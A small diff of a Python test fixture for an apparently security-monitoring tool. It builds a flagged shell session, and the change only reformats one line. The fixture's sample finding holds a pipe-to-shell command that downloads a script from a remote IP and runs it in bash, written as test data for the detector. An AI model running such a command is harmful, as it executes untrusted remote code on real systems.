@@ -28,7 +28,9 @@ PRACTICE = Practice(frozenset({"@oncall"}), "UTC", "#sec-flags")
 def flag(level=Level.HIGH, session=SESSION, *more: Finding) -> Flag:
     """A flagged shell of Ana's."""
     found = Finding("pipe-to-shell", "A download is run at once", level, ("T1059.004",), "curl http://198.51.100.7/k.sh | bash", line=4)
-    live = Session(session, OWNER_ARN, "i-0abc1234def567890", NOW - timedelta(minutes=10), kind=Kind.SHELL, account="111122223333", region="eu-west-1")
+    live = Session(
+        session, OWNER_ARN, "i-0abc1234def567890", NOW - timedelta(minutes=10), kind=Kind.SHELL, account="111122223333", region="eu-west-1"
+    )
     return Flag(session, live, level, (found, *more), "bastion-prod-1", NOW)
 
 
